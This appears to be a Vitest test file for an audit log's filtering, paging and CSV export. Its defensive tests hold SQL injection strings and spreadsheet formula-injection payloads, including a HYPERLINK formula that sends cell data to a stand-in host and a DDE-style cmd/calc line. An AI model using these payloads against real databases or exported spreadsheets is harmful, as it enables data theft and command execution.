// Filtering, paging and CSV export of the trail.
import { describe, expect, it } from 'vitest';
import { MAX_AUDIT_PAGE } from '../../../../../src/main/core/audit';
import { csvCell } from '../../../../../src/main/core/audit/internal/csv';
import { asReadable, countAuditRows } from '../../../../../src/main/core/store';
import { codeOf, PERSON, tamper, USER_A, USER_B, useAuditStores } from './helpers';

const store = useAuditStores();

// 12 entries, one a minute from 08:01: A logs in, views, fails; B is denied; the system changes settings.
function populated() {
  const s = store();
  for (let i = 0; i < 3; i++) {
    s.trail.record({ actor: USER_A, action: 'auth.login', outcome: 'success' });
    s.trail.record({ actor: USER_A, action: 'person.view', target: PERSON, outcome: 'success', details: { programId: USER_B } });
    s.trail.record({ actor: USER_B, action: 'person.export', target: PERSON, outcome: 'denied' });
    s.trail.record({ actor: 'system', action: 'settings.change', target: 'idleTimeoutMinutes', outcome: 'failure', details: { from: 15, to: i } });
  }
  return s;
}

describe('list and count', () => {
  it('answers newest first, 100 by default', () => {
    const s = populated();
    expect(s.trail.list().map((e) => e.seq)).toEqual([12, 11, 10, 9, 8, 7, 6, 5, 4, 3, 2, 1]);
    expect(s.trail.count()).toBe(12);
  });

  it('filters by actor, action, target and outcome, alone and together', () => {
    const s = populated();
    expect(s.trail.list({ actor: USER_A }).map((e) => e.seq)).toEqual([10, 9, 6, 5, 2, 1]);
    expect(s.trail.list({ action: 'person.export' }).map((e) => e.seq)).toEqual([11, 7, 3]);
    expect(s.trail.list({ target: PERSON }).map((e) => e.seq)).toEqual([11, 10, 7, 6, 3, 2]);
    expect(s.trail.list({ outcome: 'denied' }).every((e) => e.actor === USER_B)).toBe(true);
    expect(s.trail.list({ actor: USER_A, target: PERSON, outcome: 'success' }).map((e) => e.seq)).toEqual([10, 6, 2]);
    expect(s.trail.count({ actor: 'system' })).toBe(3);
    expect(s.trail.list({ actor: 'cli' })).toEqual([]);
  });

  it('filters by time: from inclusive, to exclusive, dates as midnight UTC, offsets normalised', () => {
    const s = populated();
    expect(s.trail.list({ from: '2026-03-01T08:03:00.000Z', to: '2026-03-01T08:06:00Z' }).map((e) => e.seq)).toEqual([5, 4, 3]);
    expect(s.trail.list({ from: '2026-03-01T09:03:00+01:00', to: '2026-03-01T09:05:00+01:00' }).map((e) => e.seq)).toEqual([4, 3]);
    expect(s.trail.count({ from: '2026-03-01' })).toBe(12);
    expect(s.trail.count({ to: '2026-03-01' })).toBe(0);
    expect(s.trail.count({ from: '2026-03-02' })).toBe(0);
  });

  it('pages with limit and offset', () => {
    const s = populated();
    expect(s.trail.list({ limit: 5 }).map((e) => e.seq)).toEqual([12, 11, 10, 9, 8]);
    expect(s.trail.list({ limit: 5, offset: 5 }).map((e) => e.seq)).toEqual([7, 6, 5, 4, 3]);
    expect(s.trail.list({ limit: 5, offset: 10 }).map((e) => e.seq)).toEqual([2, 1]);
  });

  it('returns details parsed and MACs as hex', () => {
    const [e] = populated().trail.list({ limit: 1 });
    expect(e).toMatchObject({ seq: 12, actor: 'system', details: { from: 15, to: 2 }, mac: expect.stringMatching(/^[0-9a-f]{64}$/) });
  });

  it('refuses malformed filters with ERR_AUDIT_INVALID_FILTER', () => {
    const s = populated();
    for (const bad of [
      { limit: MAX_AUDIT_PAGE + 1 },
      { limit: 0 },
      { offset: -1 },
      { from: 'yesterday' },
      { to: '2026-02-30T25:00:00Z' },
      { action: 'auth.everything' },
      { actor: 'Ada Lovelace' },
      { outcome: 'maybe' },
      { sql: '1=1' },
    ]) {
      expect(codeOf(() => s.trail.list(bad as never)), JSON.stringify(bad)).toBe('ERR_AUDIT_INVALID_FILTER');
    }
    expect(s.trail.list({ limit: MAX_AUDIT_PAGE })).toHaveLength(12);
  });

  it('treats filter values as data, never SQL', () => {
    const s = populated();
    expect(codeOf(() => s.trail.count({ target: "x' OR '1'='1" }))).toBe('ERR_AUDIT_INVALID_FILTER');
    // Below the schema, the query binds values as parameters.
    expect(countAuditRows(asReadable(s.db), { target: "x' OR '1'='1" })).toBe(0);
    expect(countAuditRows(asReadable(s.db), { actor: "' OR 1=1 --" })).toBe(0);
  });
});

describe('exportCsv', () => {
  it('writes a header and every matching entry oldest first, RFC 4180 with CRLF', () => {
    const s = populated();
    const csv = s.trail.exportCsv({ actor: 'system' });
    const lines = csv.split('\r\n');
    expect(lines[0]).toBe('seq,at,actor,action,target,outcome,details,prev_mac,mac');
    expect(lines).toHaveLength(5);
    expect(lines[4]).toBe('');
    expect(lines[1]).toMatch(/^4,2026-03-01T08:04:00\.000Z,system,settings\.change,idleTimeoutMinutes,failure,"\{""from"":15,""to"":0\}",[0-9a-f]{64},[0-9a-f]{64}$/);
    expect(lines.slice(1, 4).map((l) => Number(l.split(',')[0]))).toEqual([4, 8, 12]);
  });

  it('exports an entry without target or details as empty cells', () => {
    const s = populated();
    expect(s.trail.exportCsv({ action: 'auth.login' }).split('\r\n')[1]).toMatch(new RegExp(`^1,2026-03-01T08:01:00\\.000Z,${USER_A},auth\\.login,,success,,0{64},[0-9a-f]{64}$`));
  });

  it('neutralises formulas even in rows an attacker wrote straight into the table', () => {
    const s = populated();
    tamper(
      s.db,
      'INSERT INTO audit_log (seq, at, actor, action, target, outcome, details, prev_mac, mac) VALUES (13, ?, ?, ?, ?, ?, ?, ?, ?)',
      '@SUM(A1)',
      '=HYPERLINK("http://x.example/?"&A1,"open")',
      '+cmd|\' /C calc\'!A0',
      '-2+3',
      'success',
      '\tline\r\nbreak',
      Buffer.alloc(32),
      Buffer.alloc(32),
    );
    const row = s.trail.exportCsv().split('\r\n').slice(13).join('\r\n');
    expect(row).toBe(
      `13,'@SUM(A1),"'=HYPERLINK(""http://x.example/?""&A1,""open"")",'+cmd|' /C calc'!A0,'-2+3,success,"'\tline\r\nbreak",${'0'.repeat(64)},${'0'.repeat(64)}\r\n`,
    );
  });

  it('quotes cells per RFC 4180 and prefixes = + - @ tab and CR with a single quote', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell(null)).toBe('');
    expect(csvCell(7)).toBe('7');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    for (const c of ['=', '+', '-', '@', '\t', '\r']) expect(csvCell(`${c}1`).startsWith(`'${c}`) || csvCell(`${c}1`).startsWith(`"'${c}`)).toBe(true);
    expect(csvCell('=1,2')).toBe('"\'=1,2"');
    expect(csvCell('a=1')).toBe('a=1');
  });
});
